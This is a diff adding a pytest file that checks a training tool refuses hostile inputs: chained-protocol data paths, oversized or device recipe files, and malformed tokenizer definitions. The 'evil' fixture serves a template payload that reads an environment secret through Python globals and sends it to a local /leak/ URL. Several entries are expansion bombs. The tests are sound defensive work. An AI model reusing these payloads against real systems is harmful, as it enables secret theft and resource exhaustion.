@@ -1,0 +1,244 @@
+"""What a stranger's file names or holds costs one line and exit code 2, and opens no connection."""
+
+import base64
+import json
+import os
+import struct
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+import tokenizers
+import yaml
+from tokenizers import decoders, models, normalizers, pre_tokenizers
+
+from widthwise.config_io import UserError
+from widthwise.data.json_tokenizer import JsonTokenizer, read_definition
+from widthwise.data.readers import read_documents
+
+
+@pytest.fixture
+def evil(monkeypatch):
+    """The URL of a file of references whose template sends an environment variable back, and the requests made."""
+    requests, secret = [], "WIDTHWISE_TEST_SECRET"
+    monkeypatch.setenv(secret, "hunter2")
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            requests.append(self.path)
+            leak = f"{url}/leak/{{{{u.__globals__[os].environ[{secret}]}}}}"
+            refs = {name: [leak] for name in ("/manifest.json", "a.jsonl")}
+            content = json.dumps({"version": 1, "templates": {"u": "{{x}}"}, "refs": refs}).encode()
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(content)))
+            self.end_headers()
+            self.wfile.write(content)
+
+        do_HEAD = do_GET
+
+        def log_message(self, format, *arguments):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    url = f"http://127.0.0.1:{server.server_port}"
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"{url}/evil.json", requests
+    server.shutdown()
+    server.server_close()
+
+
+def check_refused(answer: tuple[int, str, str], *parts: str) -> None:
+    code, _, said = answer
+    assert code == 2, said
+    assert said.count("\n") == 1, said
+    assert all(part in said for part in parts), said
+
+
+@pytest.mark.parametrize("chain", ["reference://::", "reference::", "simplecache::", "zip://a::", "filecache::"])
+def test_a_path_that_chains_protocols_is_refused_by_every_verb(evil, widthwise, recipe, tmp_path, chain):
+    url, requests = evil
+    run, path = tmp_path / "run", f"{chain}{url}"
+    allowed = ("got protocol", "allowed: file, http, https, s3, gs, gcs, az, hf")
+    check_refused(widthwise("train", recipe, f"data={{path: '{path}'}}", "--out", run), "data.path", *allowed)
+    check_refused(widthwise("data", "verify", path), *allowed)
+    assert widthwise("train", recipe, "--out", run)[0] == 0
+    config = yaml.safe_load((run / "config.yaml").read_text())
+    check_refused(widthwise("eval", run, "--data", path), *allowed)
+    (run / "config.yaml").write_text(yaml.safe_dump({**config, "data": {"path": path}}))
+    for verb in ("resume", "eval", "analyze"):
+        check_refused(widthwise(verb, run))
+    assert requests == []
+
+
+def test_a_hugging_face_dataset_that_names_references_is_refused(evil, tmp_path):
+    pytest.importorskip("datasets")
+    url, requests = evil
+    (tmp_path / "README.md").write_text(
+        f"---\nconfigs:\n- config_name: default\n  data_files: 'reference://a.jsonl::{url}'\n---\n"
+    )
+    with pytest.raises(UserError, match="reference"):
+        list(read_documents(f"hf:{tmp_path}"))
+    assert requests == []
+
+
+@pytest.mark.parametrize("verb", ["extends", "train", "inspect", "--against", "--to"])
+@pytest.mark.parametrize("kind", ["device", "pipe", "folder", "long"])
+def test_a_recipe_is_a_plain_file_of_at_most_a_megabyte(widthwise, recipe, tmp_path, verb, kind):
+    path = tmp_path / "evil.yaml"
+    match kind:
+        case "device":
+            path.symlink_to("/dev/zero")
+        case "pipe":
+            os.mkfifo(path)
+        case "folder":
+            path.mkdir()
+        case _:
+            path.write_text("#" * 2_000_000)
+    child = tmp_path / "child.yaml"
+    child.write_text("extends: evil.yaml")
+    arguments = {
+        "extends": ("inspect", child),
+        "train": ("train", path, "--out", tmp_path / "run"),
+        "inspect": ("inspect", path),
+        "--against": ("inspect", recipe, "--against", path),
+        "--to": ("grow", tmp_path / "run", "--to", path, "--out", tmp_path / "grown"),
+    }
+    if verb == "--to":
+        assert widthwise("train", recipe, "--out", tmp_path / "run")[0] == 0
+    said = {"folder": "is a folder", "long": "has 2,000,000 bytes; allowed: up to 1,048,576"}
+    check_refused(widthwise(*arguments[verb]), str(path), said.get(kind, "is not a plain file"))
+
+
+def definition(**parts) -> str:
+    """A byte-level tokenizer.json with other parts."""
+    tokenizer = tokenizers.Tokenizer(models.BPE({"</s>": 0, "a": 1}, []))
+    tokenizer.decoder = decoders.ByteLevel()
+    return json.dumps({**json.loads(tokenizer.to_str()), **parts})
+
+
+def precompiled(charsmap: bytes) -> dict[str, str]:
+    return {"type": "Precompiled", "precompiled_charsmap": base64.b64encode(charsmap).decode()}
+
+
+def charsmap(units: dict[int, int], text: bytes) -> bytes:
+    """A trie of 256 units, and the texts that its values point to."""
+    return struct.pack("<I256I", 1024, *(units.get(index, 0) for index in range(256))) + text
+
+
+def of_letter(value: int, text: bytes) -> bytes:
+    """A charsmap that puts text[value:], up to a zero byte, in place of "a"; 1 << 10 is the offset to a's unit."""
+    leaf_at = 128
+    root, a = 1 << 10, 1 ^ ord("a")
+    return charsmap({0: root, a: (a ^ leaf_at) << 10 | 1 << 8 | ord("a"), leaf_at: 1 << 31 | value}, text)
+
+
+def replacing(n: int, content: str) -> dict:
+    part = {"type": "Replace", "pattern": {"String": "e"}, "content": content}
+    return {"type": "Sequence", "normalizers": [part] * n}
+
+
+def byte_levels(n: int) -> dict:
+    part = {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": False}
+    return {"type": "Sequence", "pretokenizers": [part] * n}
+
+
+BAD_CHARSMAPS = {
+    "nothing": b"",
+    "no units": struct.pack("<I", 0),
+    "one unit": struct.pack("<II", 4, 2**32 - 1) + b"x",
+    "fewer units than it says": struct.pack("<I", 2**31) + b"x" * 12,
+    "an offset outside": charsmap({0: 2**31 - 1}, b"x"),
+    "a value outside": of_letter(9, b"b\0"),
+    "a value within a character": of_letter(1, "é\0".encode()),
+    "not UTF-8": of_letter(0, b"\xff\0"),
+}
+WORD_LEVEL = {"type": "WordLevel", "vocab": {"</s>": 0, "a": 1}, "unk_token": "<unk>"}
+TOO_LONG = "times as long; allowed: up to 1,000 times"
+STRANGE = {
+    **{name: (definition(normalizer=precompiled(bad)), "precompiled_charsmap") for name, bad in BAD_CHARSMAPS.items()},
+    "not base64": (definition(normalizer={"type": "Precompiled", "precompiled_charsmap": "é"}), "precompiled_charsmap"),
+    "no unknown token": (definition(model=WORD_LEVEL), "Missing [UNK] token"),
+    "replaced 4 times": (definition(normalizer=replacing(4, "e" * 1000)), TOO_LONG),
+    "replaced as it loads": (
+        definition(
+            normalizer=replacing(4, "e" * 1000),
+            added_tokens=[
+                dict.fromkeys(("single_word", "lstrip", "rstrip", "special"), False)
+                | {"id": 2, "content": "eee", "normalized": True}
+            ],
+        ),
+        TOO_LONG,
+    ),
+    "without a type": (definition(normalizer={"pattern": {"Regex": ""}, "content": "x" * 1000}), TOO_LONG),
+    "mapped": (definition(normalizer=precompiled(of_letter(0, b"b" * 1001 + b"\0"))), TOO_LONG),
+    "bytes of bytes": (definition(pre_tokenizer=byte_levels(9)), TOO_LONG),
+    "decoded": (definition(decoder={"type": "Sequence", "decoders": replacing(2, "e" * 40)["normalizers"]}), TOO_LONG),
+    "not a normalizer": (definition(normalizer=[[[]]]), "is not a tokenizer"),
+}
+
+
+@pytest.mark.parametrize("name", STRANGE)
+def test_a_strangers_tokenizer_is_refused_in_one_line(widthwise, tmp_path, name):
+    content, said = STRANGE[name]
+    path, text = tmp_path / "tokenizer.json", tmp_path / "a.txt"
+    path.write_text(content)
+    text.write_text("".join(f"{number}\n" for number in range(100, 140)))
+    options = ("--document-bytes", 4, "--held-out", 0.5, "--tokenizer", path)
+    check_refused(widthwise("data", "prepare", text, "--out", tmp_path / "out", *options), str(path), said)
+
+
+def test_a_text_that_a_tokenizer_cannot_encode_is_a_mistake_of_the_user_and_ctrl_c_is_not(monkeypatch):
+    tokenizer = JsonTokenizer("x.json", definition(), "x.json")
+
+    class PanicException(BaseException):
+        pass
+
+    def raising(error):
+        def encode(*arguments, **options):
+            raise error
+
+        return type("Library", (), {"encode_batch_fast": encode, "decode": encode})()
+
+    for error, seen in ((Exception("Missing"), UserError), (PanicException("index"), UserError)):
+        monkeypatch.setattr(tokenizer, "_tokenizer", raising(error))
+        for call in (lambda: tokenizer.encode("a"), lambda: tokenizer.decode([1])):
+            with pytest.raises(seen, match=r"^x\.json: .*(Missing|index)"):
+                call()
+    monkeypatch.setattr(tokenizer, "_tokenizer", raising(KeyboardInterrupt()))
+    with pytest.raises(KeyboardInterrupt):
+        tokenizer.encode("a")
+
+
+LLAMA_2 = normalizers.Sequence([normalizers.Prepend("▁"), normalizers.Replace(" ", "▁")])
+GPT_2 = pre_tokenizers.ByteLevel()
+SPLIT = pre_tokenizers.Split(tokenizers.Regex(r"\p{N}{1,3}|\s+"), "isolated")
+QWEN = (normalizers.NFC(), pre_tokenizers.Sequence([SPLIT, pre_tokenizers.ByteLevel(add_prefix_space=False)]))
+# As long as the longest of NFKC, which SentencePiece's map holds: U+FDFA becomes 18 characters.
+T5_MAP = normalizers.Precompiled(of_letter(0, b"b" * 11 + b"\0"))
+XLNET = [
+    normalizers.Replace("``", '"'),
+    normalizers.NFKD(),
+    normalizers.StripAccents(),
+    normalizers.Lowercase(),
+    T5_MAP,
+]
+
+
+@pytest.mark.parametrize(
+    ("normalizer", "pre_tokenizer"),
+    [
+        (LLAMA_2, None),
+        (None, GPT_2),
+        QWEN,
+        (
+            normalizers.Sequence([T5_MAP, normalizers.Replace(tokenizers.Regex(" {2,}"), "▁")]),
+            pre_tokenizers.Metaspace(),
+        ),
+        (normalizers.Sequence(XLNET), pre_tokenizers.Metaspace()),
+    ],
+    ids=["Llama 2", "GPT-2", "Qwen and Llama 3", "T5", "XLNet"],
+)
+def test_tokenizers_in_use_are_read(normalizer, pre_tokenizer):
+    tokenizer = tokenizers.Tokenizer.from_str(definition())
+    tokenizer.normalizer, tokenizer.pre_tokenizer = normalizer, pre_tokenizer
+    assert read_definition(tokenizer.to_str(), "x.json")[0].to_str() == tokenizer.to_str()
